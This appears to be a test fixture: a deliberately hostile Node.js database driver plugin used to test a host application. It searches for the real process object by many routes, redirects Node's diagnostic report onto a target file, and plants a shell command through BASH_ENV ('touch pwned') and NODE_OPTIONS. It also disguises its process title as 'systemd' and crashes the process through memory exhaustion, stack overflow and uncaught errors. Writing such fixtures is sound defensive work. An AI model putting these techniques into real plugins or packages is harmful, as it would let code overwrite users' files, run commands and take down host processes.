// A driver that points Node's diagnostic report at a file of the person and then ends its process in a way that makes Node write one. The test
// puts `const TARGET = { directory, file, variant, atLoad };` in front of it.

/** Every object that could be, or lead to, the real `process`. */
async function candidates() {
  const found = [globalThis.process, globalThis.global?.process];
  const attempt = async (work) => {
    try {
      found.push(await work());
    } catch {
      // This way is closed.
    }
  };
  await attempt(async () => (await import('node:process')).default);
  await attempt(async () => (await import('process')).default);
  await attempt(async () => (await import('node:module')).createRequire(import.meta.url)('process'));
  await attempt(() => process.getBuiltinModule('process'));
  await attempt(() => process.mainModule);
  await attempt(async () => (0, eval)('import("node:process")').then((namespace) => namespace.default));
  await attempt(() => new Function('return process')());
  await attempt(() => Object.getPrototypeOf(process));
  // A method that everything inherits sees every emitter of events: a warning is emitted on the real one.
  await attempt(async () => {
    const { EventEmitter } = await import('node:events');
    for (const name of ['emit', 'on', 'once', 'listenerCount', 'listeners']) {
      const method = EventEmitter.prototype[name];
      EventEmitter.prototype[name] = function (...values) {
        found.push(this);
        return method.apply(this, values);
      };
    }
    process.emitWarning('look');
    const { deprecate } = await import('node:util');
    deprecate(() => undefined, 'look', 'DEP9999')();
    await new Promise((resolve) => setTimeout(resolve, 5));
  });
  return found.filter((value) => (typeof value === 'object' || typeof value === 'function') && value !== null);
}

async function aim() {
  for (const candidate of await candidates()) {
    for (const object of [candidate.report, candidate.binding?.bind(candidate)]) {
      if (object === undefined) continue;
      const members = {
        directory: TARGET.directory,
        filename: TARGET.file,
        compact: true,
        reportOnFatalError: true,
        reportOnUncaughtException: true,
        reportOnSignal: true,
        signal: 'SIGUSR2',
      };
      for (const [name, value] of Object.entries(members)) {
        try {
          object[name] = value;
        } catch {
          // One setting that cannot be made does not keep the others from being tried.
        }
      }
    }
    try {
      candidate.env['BASH_ENV'] = 'touch pwned';
      candidate.env['NODE_OPTIONS'] =
        `--report-on-fatalerror --report-uncaught-exception --report-dir=${TARGET.directory} --report-filename=${TARGET.file}`;
      candidate.env['NODE_REPORT_DIR'] = TARGET.directory;
      candidate.title = 'systemd';
    } catch {
      // The environment cannot be changed.
    }
  }
}

const kept = [];
const ends = {
  strings() {
    for (;;) kept.push('x'.repeat(1_000) + Math.random());
  },
  objects() {
    for (;;) kept.push({ a: [Math.random()] });
  },
  arrays() {
    for (;;) kept.push(new Array(1_000).fill({}).map(() => ({})));
  },
  closures() {
    for (let made = () => undefined; ;) {
      const before = made;
      made = () => before;
      kept.push(made);
    }
  },
  maps() {
    for (;;) kept.push(new Map([[{}, new Set([Math.random()])]]));
  },
  buffers() {
    for (;;) kept.push(Buffer.alloc(5_000_000, 1), { a: [Math.random()] });
  },
  webAssembly() {
    for (;;) {
      const memory = new WebAssembly.Memory({ initial: 320 });
      new Uint8Array(memory.buffer).fill(1);
      for (let index = 0; index < 100_000; index += 1) kept.push({ a: [Math.random()] });
      kept.push(memory);
    }
  },
  engine() {
    // More than one array can hold ends V8 itself.
    'ab'.repeat(2 ** 27).split('');
  },
  stack() {
    const deeper = () => [deeper()];
    deeper();
  },
  exception() {
    setTimeout(() => {
      throw new Error('nobody catches this');
    }, 1);
    return new Promise(() => undefined);
  },
  rejection() {
    void Promise.reject(new Error('nobody listens to this'));
    return new Promise(() => undefined);
  },
  // The test sends it.
  signal: () => new Promise((resolve) => setTimeout(resolve, 60_000)),
};

async function attack() {
  await aim();
  await ends[TARGET.variant]();
}

export const driver = {
  $$type: '@tabularium/driver',
  contract: '1.0.0',
  definition: {
    id: 'fixture',
    async connect() {
      return {
        server: { product: 'Hostile' },
        findings: [],
        async ping() {
          await attack();
        },
        async listTables() {
          return [];
        },
        async countRows() {
          return { rows: process.pid, exact: true };
        },
        async close() {},
      };
    },
  },
};

if (TARGET.atLoad) await attack();
